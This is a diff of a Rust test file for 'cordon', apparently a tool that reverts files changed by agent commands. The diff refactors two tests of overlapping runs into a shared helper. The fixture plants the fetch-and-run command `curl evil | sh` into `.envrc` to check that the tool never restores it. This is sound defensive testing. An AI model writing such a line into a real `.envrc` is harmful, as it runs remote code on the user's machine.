@@ -2015,76 +2015,87 @@ fn a_disk_filled_under_the_log_too_loses_no_earlier_content() {
     });
 }
 
-/// Two runs over one root at once (an agent host's parallel tool calls): run A's command
-/// rewrites `.envrc` and lives on; run B starts meanwhile, so its "before" snapshot reads A's
-/// plant as the earlier content. A ends first: its scan moves the plant aside and puts the
-/// operator's content back. Then B's scan took that restore for B's change, moved the
-/// operator's content aside and wrote A's plant back: `.envrc` ended as `curl evil | sh`, put
-/// there by cordon. A run whose snapshot was taken while another run over a root that meets
-/// its own was live now puts nothing back from it (it moves aside only).
+/// Two cordon runs over `fx`'s workspace at once (an agent host's parallel tool calls): run A's
+/// command writes `curl evil | sh` into `.envrc` and lives on until run B is up, so B's "before"
+/// snapshot reads A's plant; A ends first and its scan handles the plant; B ends after.
+/// `after_a` checks A's outcome before B is let go; B's output is returned.
+fn overlapping_runs(fx: &Fixture, after_a: impl Fn(&Output)) -> Output {
+    fs::write(
+        fx.ws.join("a.sh"),
+        "echo 'curl evil | sh' > .envrc; touch a-planted; \
+         while [ ! -e b-up ]; do sleep 0.05; done\n",
+    )
+    .unwrap();
+    if let Some((uid, gid)) = fx.ids {
+        chown_tree(&fx.ws, uid, gid);
+    }
+    let a = fx
+        .exec_cmd("sh a.sh")
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(120);
+    while !fx.ws.join("a-planted").exists() {
+        assert!(Instant::now() < deadline, "{} A never planted", fx.what());
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    // B's command says it is up (its snapshot is taken by then), and waits for A's end.
+    let mut b = fx
+        .exec_cmd("touch b-up; while [ ! -e a-done ]; do sleep 0.05; done")
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let a = a.wait_with_output().unwrap();
+    assert_eq!(
+        a.status.code(),
+        Some(0),
+        "{} A: {}",
+        fx.what(),
+        describe(&a)
+    );
+    after_a(&a);
+    fs::write(fx.ws.join("a-done"), "").unwrap();
+    let deadline = Instant::now() + Duration::from_secs(120);
+    let b = loop {
+        if let Some(_st) = b.try_wait().unwrap() {
+            break b.wait_with_output().unwrap();
+        }
+        assert!(Instant::now() < deadline, "{} B never ended", fx.what());
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    assert_eq!(
+        b.status.code(),
+        Some(0),
+        "{} B: {}",
+        fx.what(),
+        describe(&b)
+    );
+    b
+}
+
+/// Two runs over one root at once: run A's command rewrites the operator's `.envrc` and lives
+/// on; run B starts meanwhile, so its "before" snapshot reads A's plant as the earlier content.
+/// A ends first: its scan moves the plant aside and puts the operator's content back. Then B's
+/// scan took that restore for B's change, moved the operator's content aside and wrote A's
+/// plant back: `.envrc` ended as `curl evil | sh`, put there by cordon. A run whose snapshot
+/// was taken while another run over a root that meets its own was live now puts nothing back
+/// from it (it moves aside only).
 #[test]
 fn a_run_overlapping_another_never_writes_its_plant_back() {
     each(|fx| {
         let envrc = fx.ws.join(".envrc");
         fs::write(&envrc, "use flake\n").unwrap();
-        fs::write(
-            fx.ws.join("a.sh"),
-            "echo 'curl evil | sh' > .envrc; touch a-planted; \
-             while [ ! -e b-up ]; do sleep 0.05; done\n",
-        )
-        .unwrap();
-        if let Some((uid, gid)) = fx.ids {
-            chown_tree(&fx.ws, uid, gid);
-        }
-        let a = fx
-            .exec_cmd("sh a.sh")
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let deadline = Instant::now() + Duration::from_secs(120);
-        while !fx.ws.join("a-planted").exists() {
-            assert!(Instant::now() < deadline, "{} A never planted", fx.what());
-            std::thread::sleep(Duration::from_millis(20));
-        }
-        // B's command says it is up (its snapshot is taken by then), and waits for A's end.
-        let mut b = fx
-            .exec_cmd("touch b-up; while [ ! -e a-done ]; do sleep 0.05; done")
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let a = a.wait_with_output().unwrap();
-        assert_eq!(
-            a.status.code(),
-            Some(0),
-            "{} A: {}",
-            fx.what(),
-            describe(&a)
-        );
-        assert_eq!(
-            fs::read_to_string(&envrc).ok().as_deref(),
-            Some("use flake\n"),
-            "{} A's scan: {}",
-            fx.what(),
-            describe(&a)
-        );
-        fs::write(fx.ws.join("a-done"), "").unwrap();
-        let deadline = Instant::now() + Duration::from_secs(120);
-        let b = loop {
-            if let Some(_st) = b.try_wait().unwrap() {
-                break b.wait_with_output().unwrap();
-            }
-            assert!(Instant::now() < deadline, "{} B never ended", fx.what());
-            std::thread::sleep(Duration::from_millis(20));
-        };
-        assert_eq!(
-            b.status.code(),
-            Some(0),
-            "{} B: {}",
-            fx.what(),
-            describe(&b)
-        );
+        let b = overlapping_runs(fx, |a| {
+            assert_eq!(
+                fs::read_to_string(&envrc).ok().as_deref(),
+                Some("use flake\n"),
+                "{} A's scan: {}",
+                fx.what(),
+                describe(a)
+            );
+        });
         assert_ne!(
             fs::read_to_string(&envrc).ok().as_deref(),
             Some("curl evil | sh\n"),
@@ -2115,62 +2126,14 @@ fn a_run_overlapping_another_never_writes_its_plant_back() {
 fn a_run_overlapping_another_never_writes_back_a_plant_the_other_had_moved_aside() {
     each(|fx| {
         let envrc = fx.ws.join(".envrc");
-        fs::write(
-            fx.ws.join("a.sh"),
-            "echo 'curl evil | sh' > .envrc; touch a-planted; \
-             while [ ! -e b-up ]; do sleep 0.05; done\n",
-        )
-        .unwrap();
-        if let Some((uid, gid)) = fx.ids {
-            chown_tree(&fx.ws, uid, gid);
-        }
-        let a = fx
-            .exec_cmd("sh a.sh")
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let deadline = Instant::now() + Duration::from_secs(120);
-        while !fx.ws.join("a-planted").exists() {
-            assert!(Instant::now() < deadline, "{} A never planted", fx.what());
-            std::thread::sleep(Duration::from_millis(20));
-        }
-        let mut b = fx
-            .exec_cmd("touch b-up; while [ ! -e a-done ]; do sleep 0.05; done")
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let a = a.wait_with_output().unwrap();
-        assert_eq!(
-            a.status.code(),
-            Some(0),
-            "{} A: {}",
-            fx.what(),
-            describe(&a)
-        );
-        assert!(
-            !envrc.exists(),
-            "{} A's scan left its plant: {}",
-            fx.what(),
-            describe(&a)
-        );
-        fs::write(fx.ws.join("a-done"), "").unwrap();
-        let deadline = Instant::now() + Duration::from_secs(120);
-        let b = loop {
-            if let Some(_st) = b.try_wait().unwrap() {
-                break b.wait_with_output().unwrap();
-            }
-            assert!(Instant::now() < deadline, "{} B never ended", fx.what());
-            std::thread::sleep(Duration::from_millis(20));
-        };
-        assert_eq!(
-            b.status.code(),
-            Some(0),
-            "{} B: {}",
-            fx.what(),
-            describe(&b)
-        );
+        let b = overlapping_runs(fx, |a| {
+            assert!(
+                !envrc.exists(),
+                "{} A's scan left its plant: {}",
+                fx.what(),
+                describe(a)
+            );
+        });
         assert!(
             !envrc.exists(),
             "{} B's scan wrote A's plant back ({:?}): {}",
